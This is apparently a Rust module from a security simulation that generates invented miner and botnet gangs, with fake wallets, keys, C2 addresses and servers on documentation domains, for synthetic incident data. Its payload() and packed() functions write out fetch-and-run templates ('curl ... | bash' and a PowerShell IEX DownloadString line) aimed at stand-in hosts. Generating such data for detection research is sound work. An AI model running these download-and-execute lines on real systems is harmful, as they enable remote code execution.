//! seed → gangs, their waves, and the values that their scenes are filled with.
//!
//! The families follow what public reports say of Linux miners and botnets of 2018 to 2024: what they are entered
//! by, what they run, what they leave behind. Names, wallets, keys and places are invented. Nothing here is taken
//! from the rules that look for such things.

use super::random::{Random, scatter};
use super::scene::{self, Scene};

/// What `{g:name}` may say, in the order of a wave's values.
pub(super) const NAMES: [&str; 20] = [
    "server",
    "url",
    "script",
    "binary",
    "wallet",
    "pool",
    "key",
    "paste",
    "c2",
    "dir",
    "bot",
    "dropper",
    "b64",
    "mail",
    "second",
    "channel",
    "rival_dir",
    "rival_bot",
    "rival_server",
    "rival_pool",
];
const OWN: usize = 16;
/// What a gang shows of others comes after its own values.
pub(super) const PLANTED_FROM: usize = NAMES.len();

/// A kit: the stages of its incidents, in order.
pub(super) struct Family {
    pub(super) name: &'static str,
    pub(super) scenes: Vec<Scene>,
}

pub(super) struct Gang {
    pub(super) name: &'static str,
    /// Among all that there could be.
    number: u64,
    pub(super) family: usize,
    /// By wave: what `NAMES` stand for.
    pub(super) waves: Vec<Vec<String>>,
    /// Its part of all incidents.
    pub(super) weight: u64,
    /// Comes to 60% of the hosts.
    pub(super) widespread: bool,
    row: Row,
}

const FAMILIES: [(&str, &str); 15] = [
    ("ssh_loader", include_str!("scenes/ssh_loader.scene")),
    ("redis_miner", include_str!("scenes/redis_miner.scene")),
    ("docker_miner", include_str!("scenes/docker_miner.scene")),
    ("java_miner", include_str!("scenes/java_miner.scene")),
    ("php_miner", include_str!("scenes/php_miner.scene")),
    ("worm", include_str!("scenes/worm.scene")),
    ("ssh_shellbot", include_str!("scenes/ssh_shellbot.scene")),
    ("planter", include_str!("scenes/planter.scene")),
    ("tide", include_str!("scenes/tide.scene")),
    ("rival_miner", include_str!("scenes/rival_miner.scene")),
    ("win_wmi_miner", include_str!("scenes/win_wmi_miner.scene")),
    ("win_task_miner", include_str!("scenes/win_task_miner.scene")),
    ("win_sql_bot", include_str!("scenes/win_sql_bot.scene")),
    ("win_web_worm", include_str!("scenes/win_web_worm.scene")),
    ("win_mail_bot", include_str!("scenes/win_mail_bot.scene")),
];

/// Name, family, weight, its working folder, its bot, its dropper, whether it uses the public pool and paste site.
type Row = (&'static str, &'static str, u64, &'static str, &'static str, &'static str, bool);

const GANGS: [Row; 9] = [
    ("loop lantern", "ssh_loader", 14, "/tmp", "pty", "loop", false),
    ("red rake", "redis_miner", 22, "/var/tmp/.rk", "kdevtmpfsx", "rk.sh", true),
    ("moss pool", "redis_miner", 10, "/etc/.mossd", "mossd", "init.sh", true),
    ("whaleback", "docker_miner", 14, "/usr/share/.wb", "dockerd-netns", "wb.sh", false),
    ("javelin", "java_miner", 12, "/tmp/.java_pid", "jvmwatch", "ldr.sh", false),
    ("phpantom", "php_miner", 10, "/dev/shm/.php", "php-cgi8", "p.sh", false),
    ("burrow", "worm", 6, "/opt/.burrow", "brw", "b.sh", false),
    ("outrider", "ssh_shellbot", 8, "/root/.configrd", "kswapd01", "tddwrt7s.sh", false),
    ("cold kiln", "ssh_loader", 4, "/var/run", "kiln", "arm7k", false),
];

const WINDOWS: [Row; 5] = [
    ("tin choir", "win_wmi_miner", 12, r"C:\Windows\Temp", "in.exe", "DnsScan32", false),
    ("citrus drake", "win_task_miner", 16, r"\Microsoft\Windows", "m6g.bin.exe", "gim.jsp", false),
    ("kingsfoil", "win_sql_bot", 12, r"c:\windows\debug", "s1.exe", "Mysx", false),
    ("bull herald", "win_web_worm", 10, r"C:\Windows\ime", "icbtxdm.exe", "Netframewrk", false),
    ("ember titan", "win_mail_bot", 10, r"C:\Windows\dell", "sqhosts.exe", "UPlugPlays", false),
];

/// The kit of another gang, and nothing else of it.
const COPYCATS: [Row; 3] = [
    ("rake mimic", "redis_miner", 10, "/usr/lib/.sysd", "netdnsd", "sd.sh", false),
    ("lantern mimic", "ssh_loader", 8, "/dev/shm", "qbt", "wick", false),
    ("whale mimic", "docker_miner", 8, "/var/lib/.ovl", "overlayd", "ov.sh", false),
];

/// Two that hunt each other by name.
const RIVALS: [Row; 2] = [
    ("night heron", "rival_miner", 8, "/var/tmp/.nh", "herond", "nh.sh", false),
    ("marsh harrier", "rival_miner", 8, "/usr/local/.mh", "mharr", "mh.sh", false),
];

const PLANTER: Row = ("false flag", "planter", 8, "/opt/.ff", "flagd", "ff.sh", false);
const WIDESPREAD: Row = ("spring tide", "tide", 0, "/var/run", "tide", "td.sh", false);

/// What everybody fetches and mentions.
const POPULAR: [&str; 10] = [
    "https://github.com/xmrig/xmrig/releases",
    "https://raw.githubusercontent.com/torvalds/linux/master/README",
    "https://pastebin.com",
    "https://registry.npmjs.org",
    "https://pypi.org/simple",
    "https://get.docker.com",
    "https://get.example.org/docker",
    "https://hc.example.org",
    "registry.example.org",
    "8.8.8.8",
];

/// Gangs on top of those that are always there.
#[derive(Debug, Clone, Copy, Default)]
pub struct Extras {
    /// Gangs with the kit of another, and infrastructure and names of their own.
    pub copycats: bool,
    /// Two gangs that kill each other's processes and remove each other's files.
    pub rivals: bool,
    /// A gang that comes to 60% of the hosts.
    pub widespread: bool,
    /// Values of others, and popular sites, that one gang shows; 0: there is none such.
    pub planted: u32,
}

pub(super) const WAVES: u64 = 3;

/// The same kit, brought in by a guessed SSH password: what its entry started hangs from a shell of `sshd` instead.
pub(super) fn over_ssh(family: &Family) -> Result<Family, String> {
    let (name, text) = FAMILIES.iter().find(|it| it.0 == family.name).ok_or("no such family")?;
    let mut out = String::new();
    let mut entry = false;
    for line in text.lines() {
        if line.starts_with("scene ") {
            entry = line.starts_with("scene entry ");
            if entry {
                out.push_str(
                    "scene entry from=sshd\n  /usr/sbin/sshd | sshd: root [priv]\n    ~\n      /bin/bash | -bash\n",
                );
                continue;
            }
        }
        if entry && line.starts_with("  ") {
            out.push_str("      ");
        }
        out.push_str(line);
        out.push('\n');
    }
    let scenes = scene::parse(&out, &NAMES).map_err(|error| format!("{name} over SSH: {error}"))?;
    Ok(Family { name, scenes })
}

pub(super) fn families() -> Result<Vec<Family>, String> {
    FAMILIES
        .iter()
        .map(|(name, text)| {
            let scenes = scene::parse(text, &NAMES).map_err(|error| format!("{name}: {error}"))?;
            Ok(Family { name, scenes })
        })
        .collect()
}

/// In an order that new kinds leave as it is: values are drawn by a gang's number.
pub(super) fn gangs(families: &[Family], seed: u64, windows: bool, extras: Extras) -> Vec<Gang> {
    let public = Random::new(scatter(seed ^ 0x900d));
    let kinds: [(bool, &[Row]); 6] = [
        (true, &GANGS),
        (windows, &WINDOWS),
        (extras.copycats, &COPYCATS),
        (extras.rivals, &RIVALS),
        (extras.widespread, &[WIDESPREAD]),
        (extras.planted > 0, &[PLANTER]),
    ];
    let rows = kinds.into_iter().flat_map(|(present, rows)| rows.iter().map(move |it| (present, *it)));
    let mut gangs: Vec<Gang> = (0u64..)
        .zip(rows)
        .filter(|it| it.1.0)
        .map(|(n, (_, row))| Gang {
            name: row.0,
            number: n,
            family: families.iter().position(|it| it.name == row.1).unwrap_or(0),
            waves: (0..WAVES).map(|wave| values(&row, n, wave, seed, &public)).collect(),
            weight: row.2,
            widespread: row.0 == WIDESPREAD.0,
            row,
        })
        .collect();
    show_rivals(&mut gangs);
    show_planted(&mut gangs, seed, extras.planted as usize);
    gangs
}

/// Each rival knows the other by folder, program, and its wave's server and pool.
fn show_rivals(gangs: &mut [Gang]) {
    let rivals: Vec<usize> = (0..gangs.len()).filter(|at| gangs[*at].row.1 == RIVALS[0].1).collect();
    let [one, other] = rivals[..] else { return };
    for wave in 0..WAVES as usize {
        let shown = |gang: &Gang| [9, 10, 0, 5].map(|value: usize| gang.waves[wave][value].clone());
        let (of_one, of_other) = (shown(&gangs[one]), shown(&gangs[other]));
        gangs[one].waves[wave].extend(of_other);
        gangs[other].waves[wave].extend(of_one);
    }
}

/// The planter shows the same values in all its waves: servers, scripts, wallets, pools, C2 and keys of the others,
/// and popular sites, as many as asked.
fn show_planted(gangs: &mut [Gang], seed: u64, count: usize) {
    const TOLD: [usize; 6] = [0, 2, 4, 5, 8, 14];
    let others = gangs.iter().filter(|it| it.row.0 != PLANTER.0);
    let mut shown: Vec<String> = others
        .flat_map(|gang| gang.waves.iter().flat_map(|wave| TOLD.map(|value| wave[value].clone())))
        .chain(POPULAR.map(str::to_owned))
        .collect();
    shown.sort_unstable();
    shown.dedup();
    shown.sort_by_key(|it| it.bytes().fold(seed, |hash, byte| scatter(hash ^ u64::from(byte))));
    shown.truncate(count);
    for wave in gangs.iter_mut().filter(|it| it.row.0 == PLANTER.0).flat_map(|it| &mut it.waves) {
        wave.resize(PLANTED_FROM, String::new());
        wave.extend_from_slice(&shown);
    }
}

impl Gang {
    /// The same gang with another kit: name, servers, wallet and key stay.
    pub(super) fn with_kit(&self, family: usize) -> Self {
        Self { family, waves: self.waves.clone(), ..*self }
    }
}

impl Family {
    /// Expected number of events of one incident, in thousandths.
    pub(super) fn expected_events(&self) -> u64 {
        self.scenes.iter().map(Scene::expected_events).sum()
    }
}

/// Of an incident that shares no server, wallet, key or pool with any other: only names, folders and habits tell whose
/// it is.
pub(super) fn one_off_values(gang: &Gang, seed: u64, incident_seed: u64) -> Vec<String> {
    let public = Random::new(scatter(seed ^ 0x900d));
    let row = (gang.row.0, gang.row.1, gang.row.2, gang.row.3, gang.row.4, gang.row.5, false);
    let mut values = values(&row, gang.number, 1, incident_seed, &public);
    let mut own = Random::new(incident_seed ^ 0x5e12e2);
    // There are too few documentation addresses for an own one each.
    let old =
        std::mem::replace(&mut values[0], format!("{}.example", text(b"abcdefghijklmnopqrstuvwxyz", 9, &mut own)));
    for value in [1, 2, 3] {
        values[value] = values[value].replace(&old, &values[0]);
    }
    values[8] = format!("{}.test:{}", text(b"abcdefghijklmnopqrstuvwxyz", 8, &mut own), own.between(1000, 9999));
    let script = &values[2];
    values[12] = packed(&row, script);
    values.extend_from_slice(&gang.waves[1][OWN..]);
    values
}

/// As the family runs it: PowerShell takes its base64 in UTF-16.
fn packed(row: &Row, script: &str) -> String {
    if !row.1.starts_with("win_") {
        return base64(payload(script).as_bytes());
    }
    let text = format!("IEX (New-Object Net.WebClient).DownloadString('{script}')");
    base64(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

fn payload(script: &str) -> String {
    format!("(curl -fsSL {script}||wget -q -O- {script})|bash")
}

/// What stays with a gang (wallet, key, folder, bot) is drawn from the gang alone; the rest from the wave too.
fn values(row: &Row, gang: u64, wave: u64, seed: u64, public: &Random) -> Vec<String> {
    const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let mut own = Random::new(scatter(seed ^ scatter(gang + 0x6a)));
    let mut new = Random::new(scatter(seed ^ scatter((gang << 8) + wave + 0x3e)));
    let mut public = public.clone();
    let public_pool = format!("pool{}.minersunited.example:3333", public.between(1, 9));
    let server = match (gang + wave) % 3 {
        0 => format!("192.0.2.{}", 10 + (gang * WAVES + wave) % 61 * 4 + new.below(4)),
        1 => format!("{}{}.example", text(LOWER, 5, &mut new), new.between(10, 99)),
        _ => {
            format!("{}.{}.test:8{}", text(&LOWER[..26], 2, &mut new), text(LOWER, 7, &mut new), new.between(100, 999))
        }
    };
    let path = text(LOWER, 4, &mut new);
    let url = format!("http://{server}/{path}");
    let script = format!("{url}/{}", row.5);
    let wallet = format!("4{}{}", ["4", "7", "8", "A", "B"][own.below(5) as usize], text(BASE58, 93, &mut own));
    let key = format!("AAAAB3NzaC1yc2EAAAADAQABAAABAQC{}", text(BASE64, 341, &mut own));
    let mail = format!("{}@mail.test", text(&LOWER[..26], 8, &mut own));
    let channel = format!("#{}", text(&LOWER[..26], 4, &mut own));
    let pool = if row.6 {
        public_pool
    } else {
        format!("xmr.{}.example:{}", text(LOWER, 6, &mut own), own.between(3000, 9999))
    };
    let paste = format!("https://pastes.example/raw/{}", text(LOWER, 8, &mut new));
    // A documentation network has room for 42.
    let (network, n) =
        (["198.51.100", "203.0.113"][((gang * WAVES + wave) / 42 % 2) as usize], (gang * WAVES + wave) % 42);
    let c2 =
        format!("{network}.{}:{}", 2 + n * 6 + new.below(6), [6667, 443, 8443, 31337, 1234][new.below(5) as usize]);
    let second = format!("{}.{}.example", text(&LOWER[..26], 3, &mut new), text(LOWER, 6, &mut new));
    vec![
        server,
        url.clone(),
        script.clone(),
        format!("{url}/{}", row.4),
        wallet,
        pool,
        key,
        paste,
        c2,
        row.3.to_owned(),
        row.4.to_owned(),
        row.5.to_owned(),
        packed(row, &script),
        mail,
        second,
        channel,
    ]
}

fn text(letters: &[u8], length: usize, random: &mut Random) -> String {
    (0..length).map(|_| char::from(letters[random.below(letters.len() as u64) as usize])).collect()
}

pub(super) fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0u32, |bits, byte| (bits << 8) | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * at)) as usize & 63];
            out.push(if at <= chunk.len() { char::from(letter) } else { '=' });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    fn value<'a>(gang: &'a Gang, wave: usize, name: &str) -> &'a str {
        &gang.waves[wave][NAMES.iter().position(|it| *it == name).unwrap()]
    }

    #[test]
    fn waves_renew_their_servers_and_keep_wallet_and_key() {
        let gangs = gangs(&families().unwrap(), 4, false, Extras::default());
        for gang in &gangs {
            assert_ne!(value(gang, 0, "server"), value(gang, 1, "server"));
            assert_eq!(value(gang, 0, "wallet"), value(gang, 2, "wallet"));
            assert_eq!(value(gang, 0, "key"), value(gang, 2, "key"));
            assert_eq!(value(gang, 0, "wallet").len(), 95);
        }
        let wallets: BTreeSet<&str> = gangs.iter().map(|it| value(it, 0, "wallet")).collect();
        let servers: BTreeSet<&str> =
            gangs.iter().flat_map(|it| (0..3).map(|wave| value(it, wave, "server"))).collect();
        assert_eq!((wallets.len(), servers.len()), (gangs.len(), gangs.len() * 3));
    }

    #[test]
    fn two_gangs_share_a_public_pool_and_a_paste_site() {
        let gangs = gangs(&families().unwrap(), 4, false, Extras::default());
        let sharing: Vec<&Gang> = gangs.iter().filter(|it| value(it, 0, "pool").contains("minersunited")).collect();
        assert_eq!(sharing.len(), 2);
        assert_eq!(value(sharing[0], 0, "pool"), value(sharing[1], 2, "pool"));
        assert_ne!(value(sharing[0], 0, "paste"), value(sharing[1], 0, "paste"));
    }

    #[test]
    fn base64_pads() {
        assert_eq!(base64(b"light w"), "bGlnaHQgdw==");
        assert_eq!(base64(b"light wo"), "bGlnaHQgd28=");
        assert_eq!(base64(b"light wor"), "bGlnaHQgd29y");
    }
}
